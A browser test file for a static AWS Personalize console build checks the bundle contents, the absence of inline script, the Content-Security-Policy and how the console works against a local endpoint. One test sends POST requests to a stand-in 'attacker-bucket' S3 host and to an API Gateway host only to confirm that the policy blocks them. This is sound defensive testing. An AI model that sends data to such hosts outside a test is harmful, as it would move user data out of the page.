// The deployable static site (./build.sh dist): served from a subfolder by a plain static server
// that sends .wasm with a wrong MIME type and has no local-endpoint.json, the page starts in AWS
// mode; switched to the local endpoint by hand, it creates a tracker. No third-party request.
//
// The site is what `./build.sh dist DIR --connect-src ORIGIN` writes (minified modules; the .wasm is
// rebuilt only when stale, so other tests reading web/lib/personalize.wasm are undisturbed).

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { after, before, describe, it } from 'node:test';
import { startLocalEndpoint, DEMO_CREDENTIALS } from './local-endpoint/runtime/index.mjs';
import { startStaticServer } from './browser/static-server.mjs';
import { launch, watch, ROOT, WEB } from './browser/harness.mjs';

/** What dist holds: the site's rooms (the page, its styles, the console's bundle, the glue's bundle
 * and its .wasm), nothing Node-only, nothing of the source modules. */
const DIST_FILES = ['console/app.mjs', 'index.html', 'lib/personalize.mjs', 'lib/personalize.wasm', 'style.css'];
const CUSTOM_ORIGIN = 'https://personalize.example.test:8443';
/** A page's Content-Security-Policy (its meta tag) as directive -> sources. */
const csp = (html) => new Map(/<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)[1].split(';')
  .map((d) => d.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
const PAGE_FILES = (name) => /^(index\.html|style\.css|console\/app\.mjs)$/.test(name);
/** Every file under dir, by its path inside dir. */
const filesUnder = (dir) => fs.readdirSync(dir, { recursive: true }).filter((f) => fs.statSync(path.join(dir, f)).isFile()).sort();

describe('dist: the static site from a subfolder', { timeout: 90_000 }, () => {
  let dir, emu, site, browser;

  before(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pw-dist-'));
    execFileSync('bash', [path.join(ROOT, 'build.sh'), 'dist', dir, '--connect-src', CUSTOM_ORIGIN], { cwd: ROOT, stdio: 'ignore' });
    emu = await startLocalEndpoint({ port: 0, admin: true, demo: true, stepMs: 50, log: () => {} });
    site = await startStaticServer({ root: dir, base: '/sub/dir/', wrongWasmMime: true });
    browser = await launch();
  });

  after(async () => {
    await browser?.close();
    await site?.close();
    await emu?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it('holds the page, the console and the glue as one bundle each, with relative references only', (t) => {
    const files = filesUnder(dir);
    assert.deepEqual(files, DIST_FILES, 'the site and nothing else (nothing Node-only, no source modules)');
    const glueSources = fs.readdirSync(path.join(WEB, 'lib/src')).filter((f) => f.endsWith('.mjs'))
      .reduce((sum, f) => sum + fs.statSync(path.join(WEB, 'lib/src', f)).size, 0);
    assert.ok(fs.statSync(path.join(dir, 'lib/personalize.mjs')).size < glueSources * 0.7, 'the glue is minified');
    const html = fs.readFileSync(path.join(dir, 'index.html'), 'utf8');
    for (const [, ref] of html.matchAll(/(?:src|href)="([^"]+)"/g)) {
      if (ref === 'data:,' || ref.startsWith('#')) continue; // the icon; the skip link within the page
      assert.match(ref, /^\.\//, `relative: ${ref}`);
      assert.ok(files.includes(ref.slice(2)), `${ref} is in dist`);
    }
    assert.deepEqual([...html.matchAll(/<link rel="modulepreload" href="([^"]+)">/g)].map((m) => m[1]), ['./lib/personalize.mjs'],
      'the glue bundle preloaded, the console bundle loaded by its script tag: no chain of imports to wait on');
    assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>|\sstyle="|\son\w+="/, 'no inline script, style or handler');
    for (const name of files.filter((f) => f.endsWith('.mjs'))) {
      const code = fs.readFileSync(path.join(dir, name), 'utf8');
      for (const [, spec] of code.matchAll(/(?:^|[;}])\s*import\s*[^'"(]*['"]([^'"]+)['"]/g)) {
        assert.match(spec, /^\.\.?\//, `${name} imports ${spec} relatively`);
        const target = path.posix.join(path.posix.dirname(name), spec);
        assert.ok(files.includes(target), `${name} imports ${spec}, which is in dist`);
      }
      if (PAGE_FILES(name)) assert.doesNotMatch(code, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|localStorage|document\.cookie|console\.\w/, `${name}: no HTML sinks, storage or logs`);
    }
    // connect-src: the source page's (named Personalize hosts and loopback) plus exactly the custom origin.
    const policy = csp(html);
    const source = csp(fs.readFileSync(path.join(WEB, 'index.html'), 'utf8'));
    const connect = policy.get('connect-src');
    assert.deepEqual(connect.filter((s) => s !== CUSTOM_ORIGIN), source.get('connect-src'));
    assert.equal(connect.filter((s) => s === CUSTOM_ORIGIN).length, 1, 'the custom origin, once');
    assert.ok(connect.includes('https://personalize.us-east-1.amazonaws.com') && connect.includes('https://personalize-events.eu-west-1.amazonaws.com'));
    assert.ok(!connect.some((s) => s.includes('*.') || /s3\.amazonaws\.com/.test(s)), `no host wildcard, nothing of S3: ${connect.join(' ')}`);
    for (const [name, sources] of source) if (name !== 'connect-src') assert.deepEqual(policy.get(name), sources, `${name} as in web/index.html`);
    const gzip = files.filter(PAGE_FILES).reduce((sum, f) => sum + zlib.gzipSync(fs.readFileSync(path.join(dir, f)), { level: 9 }).length, 0);
    t.diagnostic(`page's own files (${files.filter(PAGE_FILES).join(', ')}): ${gzip} bytes gzip -9`);
    // 20.5 KB with search, sort, tags, resume, snippets, a history of 20 calls and deep links: was 13 KB.
    assert.ok(gzip < 22_000, `the page's own files stay small (${gzip} bytes gzip)`);
  });

  it('starts in AWS mode without local-endpoint.json, then works against the local endpoint', async () => {
    const page = browser.context.pages()[0] ?? await browser.context.newPage();
    const origins = new Set();
    page.on('request', (r) => origins.add(new URL(r.url()).origin));
    const problems = await watch(page, {
      ignore: (text, url) => /status of 404/.test(text) && url.endsWith('/sub/dir/local-endpoint.json'),
    });
    await page.goto(site.url);

    // AWS mode: empty credentials, regions grouped by partition, the endpoint the switches give.
    await page.getByText('Requests go to https://personalize.us-east-1.amazonaws.com').waitFor();
    assert.ok(await page.getByRole('radio', { name: 'AWS' }).isChecked());
    assert.equal(await page.getByLabel('Access key ID').inputValue(), '');
    assert.equal(await page.getByLabel('Secret access key').inputValue(), '');
    assert.equal(await page.getByLabel('Endpoint URL').isVisible(), false);
    const groups = await page.getByLabel('Region').locator('optgroup').evaluateAll((g) => g.map((o) => o.label));
    assert.deepEqual(groups, ['Commercial', 'China']);
    await page.getByLabel('FIPS endpoint').check();
    await page.getByText('Requests go to https://personalize-fips.us-east-1.amazonaws.com').waitFor();
    await page.getByLabel('Dual-stack (IPv6)').check();
    await page.getByText('Requests go to https://personalize-fips.us-east-1.api.aws').waitFor();
    await page.getByLabel('FIPS endpoint').uncheck();
    await page.getByLabel('Dual-stack (IPv6)').uncheck();
    await page.getByLabel('Region').selectOption('cn-north-1');
    await page.getByText('Requests go to https://personalize.cn-north-1.amazonaws.com.cn').waitFor();
    await page.getByRole('button', { name: 'Test connection' }).click();
    await page.getByText(/CredentialsProviderError/).waitFor();
    await page.getByLabel('Region').selectOption('us-east-1');

    // The local endpoint, entered by hand.
    await page.getByRole('radio', { name: 'Local endpoint' }).check();
    await page.getByLabel('Endpoint URL').fill(emu.url);
    await page.getByLabel('Access key ID').fill(DEMO_CREDENTIALS.accessKeyId);
    await page.getByLabel('Secret access key').fill(DEMO_CREDENTIALS.secretAccessKey);
    await page.getByRole('button', { name: 'Test connection' }).click();
    await page.getByText(/^Connected to the local endpoint/).waitFor({ state: 'attached' }); // the panel folds to a line
    await page.getByLabel('Dataset group', { exact: true }).selectOption(emu.demoDatasetGroupArn);
    assert.equal(await page.getByLabel('Dataset group ARN').inputValue(), emu.demoDatasetGroupArn);
    await page.getByLabel('Tracker name').fill('dist-tracker');
    await page.getByRole('button', { name: 'Create event tracker' }).click();
    await page.getByRole('status', { name: 'Status' }).getByText('ACTIVE', { exact: true }).waitFor();
    const [tracker] = emu.state().eventTrackers;
    assert.equal(tracker.name, 'dist-tracker');
    assert.equal(await page.getByLabel('Tracking ID', { exact: true }).inputValue(), tracker.trackingId);

    assert.ok(site.requests.includes('/sub/dir/lib/personalize.wasm'), 'the .wasm came from the subfolder (served as application/octet-stream)');
    assert.ok(site.requests.every((p) => p.startsWith('/sub/dir/')), 'nothing outside the subfolder');
    assert.deepEqual([...origins].sort(), [new URL(site.url).origin, emu.url].sort(), 'no third-party request');
    assert.deepEqual(problems, []);
  });

  it('blocks connections to other AWS-owned hosts (S3, API Gateway) before any request is made', async () => {
    const page = await browser.context.newPage();
    // Should the policy ever let them through, they end here, not on the network.
    const reached = [];
    await page.route(/amazonaws\.com/, (route) => reached.push(route.request().url()) && route.abort());
    await page.goto(site.url);
    const outcome = await page.evaluate(async () => {
      const blocked = [];
      document.addEventListener('securitypolicyviolation', (e) => blocked.push(`${e.violatedDirective} ${e.blockedURI}`));
      const results = [];
      for (const url of ['https://attacker-bucket.s3.amazonaws.com/x', 'https://abc123.execute-api.us-east-1.amazonaws.com/x']) {
        results.push(await fetch(url, { method: 'POST', body: 'x' }).then(() => 'sent', (e) => e.name));
      }
      await new Promise((r) => setTimeout(r, 50));
      return { results, blocked };
    });
    assert.deepEqual(outcome.results, ['TypeError', 'TypeError']);
    assert.deepEqual(outcome.blocked.map((b) => b.split(' ')[0]), ['connect-src', 'connect-src']);
    assert.deepEqual(reached, [], 'no request was made');
    await page.close();
  });
});
